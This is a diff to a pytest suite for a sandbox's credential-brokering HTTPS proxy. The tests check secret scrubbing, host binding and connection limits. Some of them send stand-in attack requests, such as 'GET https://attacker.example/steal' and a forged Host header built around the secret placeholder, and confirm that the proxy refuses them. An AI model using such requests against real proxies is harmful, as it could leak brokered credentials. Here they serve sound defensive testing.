@@ -149,9 +149,10 @@ async def _upstream_handler(seen: list[dict[str, str]], r: asyncio.StreamReader,
                 seen.append({"target": event.target.decode(), **headers})
                 ok = headers.get("Authorization") == f"Bearer {SECRET}"
                 body = json.dumps({"target": event.target.decode(), "headers": headers}).encode()
+                reason = headers.get("Authorization", "").encode() if event.target == b"/reason" else b""
                 out = conn.send(h11.Response(status_code=200 if ok else 401, headers=[
                     (b"X-Echo-Auth", headers.get("Authorization", "").encode()),
-                ]))
+                ], reason=reason))
                 for i in range(0, len(body), 5):
                     out += conn.send(h11.Data(data=body[i : i + 5]))
                 w.write(out + conn.send(h11.EndOfMessage()))
@@ -261,7 +262,7 @@ async def test_connect_to_a_connector_host_is_brokered_with_keep_alive(rig: Rig)
         assert SECRET not in body.decode() and SECRET not in json.dumps(headers)
         assert headers["X-Echo-Auth"] == f"Bearer {PLACEHOLDER}"
         assert json.loads(body)["headers"]["Authorization"] == f"Bearer {PLACEHOLDER}"
-    assert rig.seen[0]["target"] == f"/v1/items?key={SECRET}"
+    assert rig.seen[0]["target"] == f"/v1/items?key={PLACEHOLDER}"  # the header only: not the query
     assert all(s["Authorization"] == f"Bearer {SECRET}" and s["Accept-Encoding"] == "identity" for s in rig.seen)
     decisions = [d for d in rig.proxy.decisions if d.connector == "api"]
     assert [(d.host, d.port, d.method, d.status, d.count, d.reason) for d in decisions] == [
@@ -407,3 +408,183 @@ async def test_a_kept_alive_upstream_that_hung_up_is_tried_again(rig: Rig) -> No
     answers = await _requests(r, w, "api.test", [("/then-hang-up", []), ("/after", [])])
     assert [a[0] for a in answers] == [200, 200]
     assert [s["target"] for s in rig.seen] == ["/then-hang-up", "/after"]
+
+
+# --- a brokered session is bound to its host (review findings 2, 3, 4, 6, 7) -----------------
+
+
+async def test_an_absolute_target_for_another_host_is_refused_and_never_sent(rig: Rig) -> None:
+    out = await _raw(rig, b"GET https://attacker.example/steal HTTP/1.1\r\nHost: attacker.example\r\n\r\n")
+    assert out.startswith(b"HTTP/1.1 400 ") and b"reaches api.test only" in out, out
+    assert rig.seen == []
+    assert [(d.allowed, d.reason) for d in rig.proxy.decisions if d.connector == "api"] == [
+        (False, "a target for another host")
+    ]
+    assert rig.proxy.refused_any
+
+
+async def test_an_absolute_target_for_the_session_host_becomes_origin_form(rig: Rig) -> None:
+    out = await _raw(rig, b"GET https://API.test:443/v1?q=1 HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
+    assert out.startswith(b"HTTP/1.1 200 "), out
+    assert rig.seen[-1]["target"] == "/v1?q=1"
+
+
+@pytest.mark.parametrize("target", [b"https://api.test:8443/", b"http://api.test/", b"https://u@api.test/", b"api.test:443"])
+async def test_other_absolute_or_authority_targets_are_refused(rig: Rig, target: bytes) -> None:
+    out = await _raw(rig, b"GET " + target + b" HTTP/1.1\r\nHost: api.test\r\n\r\n")
+    assert out.startswith(b"HTTP/1.1 400 "), out
+    assert rig.seen == []
+
+
+async def test_the_broker_sets_host_and_substitutes_only_in_the_connectors_header(rig: Rig) -> None:
+    out = await _raw(rig, (
+        f"GET /h?k={PLACEHOLDER} HTTP/1.1\r\nHost: {PLACEHOLDER}.attacker.example\r\n"
+        f"X-Forwarded-Host: {PLACEHOLDER}\r\nAuthorization: Bearer {PLACEHOLDER}\r\n"
+        f"Range: bytes=0-10\r\nIf-Range: x\r\nConnection: close\r\n\r\n"
+    ).encode())
+    assert out.startswith(b"HTTP/1.1 200 "), out
+    [seen] = rig.seen
+    assert seen["Host"] == "api.test"
+    assert seen["X-Forwarded-Host"] == PLACEHOLDER and seen["target"] == f"/h?k={PLACEHOLDER}"
+    assert seen["Authorization"] == f"Bearer {SECRET}"
+    assert "Range" not in seen and "If-Range" not in seen
+    assert SECRET.encode() not in out
+
+
+async def test_the_response_reason_phrase_is_scrubbed(rig: Rig) -> None:
+    out = await _raw(rig, b"GET /reason HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
+    assert out.startswith(f"HTTP/1.1 200 Bearer {PLACEHOLDER}\r\n".encode()), out
+    assert SECRET.encode() not in out
+
+
+@pytest.mark.parametrize("head", [
+    b"CONNECT elsewhere.test:443 HTTP/1.1\r\nHost: elsewhere.test:443\r\n\r\n",
+    b"GET /ws HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
+])
+async def test_connect_and_upgrade_inside_a_session_are_refused(rig: Rig, head: bytes) -> None:
+    out = await _raw(rig, head)
+    assert out.startswith(b"HTTP/1.1 400 ") and b"not brokered" in out, out
+    assert rig.seen == []
+    assert any(not d.allowed and d.connector == "api" for d in rig.proxy.decisions)
+
+
+async def _brokered_methods(rig: Rig, methods: list[str]) -> None:
+    r, w = await _connect(rig, "api.test")
+    await w.start_tls(rig.client_tls, server_hostname="api.test")
+    conn = h11.Connection(h11.CLIENT)
+    for method in methods:
+        w.write(conn.send(h11.Request(method=method, target="/", headers=[("Host", "api.test"), ("Content-Length", "0")])))
+        w.write(conn.send(h11.EndOfMessage()))
+        await w.drain()
+        while not isinstance(event := conn.next_event(), h11.EndOfMessage):
+            if event is h11.NEED_DATA:
+                conn.receive_data(await asyncio.wait_for(r.read(65536), 10))
+        conn.start_next_cycle()
+    w.close()
+
+
+async def test_unusual_methods_are_one_row_and_a_full_record_still_counts(
+    rig: Rig, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    await _brokered_methods(rig, [f"X{i}" for i in range(40)] + ["GET"])
+    rows = {(d.method, d.count) for d in rig.proxy.decisions if d.connector == "api"}
+    assert rows == {("OTHER", 40), ("GET", 1)}
+    import sandboxd.runtime.network.proxy as proxy_module
+
+    monkeypatch.setattr(proxy_module, "_MAX_DECISIONS", len(rig.proxy.decisions))
+    await _brokered_methods(rig, ["DELETE", "DELETE"])  # a new row would not fit
+    [over] = [d for d in rig.proxy.decisions if d.method == "DELETE"]
+    assert (over.host, over.connector, over.count, over.allowed) == ("*", "api", 2, True)
+    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)
+    w.write(b"CONNECT denied.test:443 HTTP/1.1\r\n\r\n")
+    await r.read()
+    w.close()
+    assert rig.proxy.refused_any  # a refusal past the limit still shows
+
+
+async def test_a_leaf_is_made_only_for_a_name_the_policy_lets_through(rig: Rig, tmp_path: Path) -> None:
+    async def inside(host: str, port: int) -> list[str]:
+        return ["10.0.0.7"]
+
+    rig.proxy._resolve = inside
+    rig.proxy._ca = CertificateAuthority.load_or_create(tmp_path / "fresh-ca")  # no leaf made yet
+    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)
+    w.write(b"CONNECT api.test:443 HTTP/1.1\r\n\r\n")
+    assert (await asyncio.wait_for(r.read(), 10)).startswith(b"HTTP/1.1 403 ")
+    w.close()
+    assert "api.test" not in rig.proxy._ca._contexts  # type: ignore[union-attr]
+    assert any(not d.allowed and d.connector == "api" and "resolves to" in d.reason for d in rig.proxy.decisions)
+
+
+async def test_a_client_that_stalls_its_body_is_timed_out(rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
+    import sandboxd.runtime.network.broker as broker_module
+
+    monkeypatch.setattr(broker_module, "_IDLE_S", 0.3)
+    r, w = await _connect(rig, "api.test")
+    await w.start_tls(rig.client_tls, server_hostname="api.test")
+    w.write(b"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 100\r\n\r\nonly part")
+    await w.drain()
+    out = await asyncio.wait_for(r.read(), 5)  # the broker gives up and closes, well before 5 s
+    w.close()
+    assert out.startswith(b"HTTP/1.1 502 ") or out == b"", out
+
+
+# --- connection caps (review finding 5) ------------------------------------------------------
+
+
+async def test_the_proxy_takes_at_most_max_connections_at_once(rig: Rig) -> None:
+    from sandboxd.runtime.network.forward import MAX_CONNECTIONS, TOO_MANY
+
+    held = [await asyncio.open_connection("127.0.0.1", rig.proxy_port) for _ in range(MAX_CONNECTIONS)]
+    await asyncio.sleep(0.1)
+    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)
+    assert await asyncio.wait_for(r.read(), 5) == b""  # closed at once
+    w.close()
+    [row] = [d for d in rig.proxy.decisions if d.reason == TOO_MANY]
+    assert not row.allowed and row.count == 1
+    for _, hw in held:
+        hw.close()
+    await asyncio.sleep(0.1)
+    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)  # room again
+    w.write(b"CONNECT denied.test:443 HTTP/1.1\r\n\r\n")
+    assert (await asyncio.wait_for(r.read(), 5)).startswith(b"HTTP/1.1 403 ")
+    w.close()
+
+
+async def test_a_forward_takes_at_most_max_connections_at_once() -> None:
+    from sandboxd.runtime.network.forward import MAX_CONNECTIONS, TOO_MANY
+
+    async def hold(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
+        await r.read()
+        w.close()
+
+    target = await asyncio.start_server(hold, "127.0.0.1", 0)
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(128)
+    listener.setblocking(False)
+    forwarder = Forwarder()
+    forward = Forward("db", 5432, "127.0.0.1", target.sockets[0].getsockname()[1])
+    await forwarder.start(forward, listener)
+    try:
+        held = [await asyncio.open_connection(*listener.getsockname()) for _ in range(MAX_CONNECTIONS)]
+        await asyncio.sleep(0.2)
+        r, w = await asyncio.open_connection(*listener.getsockname())
+        assert await asyncio.wait_for(r.read(), 5) == b""
+        w.close()
+        for _, hw in held:
+            hw.close()
+    finally:
+        await forwarder.close()
+        target.close()
+    rows = {(d.reason, d.allowed, d.count) for d in forwarder.decisions}
+    assert rows == {("forwarded", True, MAX_CONNECTIONS), (TOO_MANY, False, 1)}
+
+
+async def test_an_sni_outside_the_name_alphabet_is_refused_and_recorded(rig: Rig) -> None:
+    client = ssl.create_default_context()
+    client.check_hostname = False
+    client.verify_mode = ssl.CERT_NONE
+    with pytest.raises((ssl.SSLError, ConnectionError)):
+        await asyncio.open_connection("127.0.0.1", rig.tls_port, ssl=client, server_hostname="x!y.api.test")
+    assert [(d.host, d.allowed) for d in rig.proxy.decisions] == [("(invalid SNI)", False)]
